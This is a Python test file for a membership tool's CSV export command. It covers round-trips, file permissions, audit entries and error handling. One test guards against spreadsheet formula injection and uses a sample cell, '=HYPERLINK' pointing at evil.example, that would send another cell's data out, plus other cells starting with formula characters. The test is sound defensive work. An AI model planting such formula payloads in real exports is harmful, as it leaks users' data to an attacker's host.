"""``members export``: the files the import reads, owner-only, audited; export then import changes nothing."""

from __future__ import annotations

import hashlib
import json
import stat
from pathlib import Path

from sidecar.audit import details_of, list_entries
from sidecar.runtime import Runtime
from tests.membership.conftest import AS_OF, MEMBER_HEADER, Run, Write


def test_export_round_trip(run: Run, write: Write, runtime: Runtime, tmp_path: Path) -> None:
    orgs = write(
        "orgs.csv",
        "domains,status,name,org_id,paid_through",  # any column order, extra spaces and case
        '" Acme.ORG;acme.com",active,"Acme, Inc.",ACME,2026-12-31',
        "globex.com,lapsed,Globex,GLOBEX,",
    )
    people = write(
        "members.csv",
        MEMBER_HEADER,
        'M2,,"Ivan ""the"" Individual",ivan@example.net,active,2026-12-31',
        "M1,ACME,Ann, Ann@Acme.com ;ann@home.net,active,",
    )
    first = run("import", "--organizations", str(orgs), "--members", str(people))
    assert first.exit_code == 0, first.output

    out_orgs, out_people = tmp_path / "out-orgs.csv", tmp_path / "out-members.csv"
    result = run("export", "--organizations", str(out_orgs), "--members", str(out_people), "--as", "board")
    assert result.exit_code == 0, result.output
    assert out_orgs.read_text() == (
        "org_id,name,status,paid_through,domains\n"
        'ACME,"Acme, Inc.",active,2026-12-31,acme.com;acme.org\n'
        "GLOBEX,Globex,lapsed,,globex.com\n"
    )
    assert out_people.read_text() == (
        "member_number,org_id,name,email,status,paid_through\n"
        "M1,ACME,Ann,ann@acme.com;ann@home.net,active,\n"
        'M2,,"Ivan ""the"" Individual",ivan@example.net,active,2026-12-31\n'
    )
    for path in (out_orgs, out_people):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600

    again = run(
        "import", "--organizations", str(out_orgs), "--members", str(out_people), "--as-of", AS_OF, "--json"
    )
    report = json.loads(again.stdout)
    assert report["organizations"] == {"created": 0, "updated": 0, "unchanged": 2}
    assert report["members"] == {"created": 0, "updated": 0, "unchanged": 2}
    assert report["eligibility_changes"] == []

    with runtime.sessions() as session:
        [entry] = list_entries(session, action="members.export")
    assert (entry.actor, entry.target) == ("board", "membership")
    assert details_of(entry)["files"] == {
        "organizations": {
            "file": "out-orgs.csv",
            "rows": 2,
            "sha256": hashlib.sha256(out_orgs.read_bytes()).hexdigest(),
        },
        "members": {
            "file": "out-members.csv",
            "rows": 2,
            "sha256": hashlib.sha256(out_people.read_bytes()).hexdigest(),
        },
    }
    assert result.stdout.splitlines()[0].startswith("organizations: 2 rows to out-orgs.csv (sha256 ")


def test_export_replaces_an_older_file_and_needs_a_path(run: Run, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    old = out / "members.csv"
    old.write_text("stale\n")
    result = run("export", "--members", str(old))
    assert result.exit_code == 0, result.output
    assert old.read_text() == MEMBER_HEADER + "\n"
    assert list(out.iterdir()) == [old]  # no partial file left behind
    nothing = run("export")
    assert nothing.exit_code == 1
    assert nothing.stderr == "error: give --organizations FILE, --members FILE, or both\n"


def test_export_to_an_unwritable_place_fails_cleanly(run: Run, tmp_path: Path, runtime: Runtime) -> None:
    result = run("export", "--members", str(tmp_path / "no-such-dir" / "members.csv"))
    assert result.exit_code == 1
    assert result.stderr.startswith("error: cannot write ")
    with runtime.sessions() as session:
        assert list_entries(session, action="members.export") == []


def test_a_cell_a_spreadsheet_would_run_is_exported_as_text_and_imported_as_written(
    run: Run, write: Write, tmp_path: Path
) -> None:
    """A name like ``=HYPERLINK(...)`` must not become a formula in the Board's spreadsheet (CWE-1236)."""
    people = write(
        "members.csv",
        MEMBER_HEADER,
        'M1,,"=HYPERLINK(""http://evil.example/?q=""&A1,""Ann"")",ann@example.net,active,',
        "M2,,+Bob,bob@example.net,active,",
        "-M3,,@Cleo,cleo@example.net,active,",
    )
    assert run("import", "--members", str(people)).exit_code == 0
    out = tmp_path / "out-members.csv"
    assert run("export", "--members", str(out), "--as", "board").exit_code == 0
    assert out.read_text() == (
        "member_number,org_id,name,email,status,paid_through\n"
        "'-M3,,'@Cleo,cleo@example.net,active,\n"
        'M1,,"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Ann"")",ann@example.net,active,\n'
        "M2,,'+Bob,bob@example.net,active,\n"
    )
    again = run("import", "--members", str(out), "--as-of", AS_OF, "--json")
    assert json.loads(again.stdout)["members"] == {"created": 0, "updated": 0, "unchanged": 3}
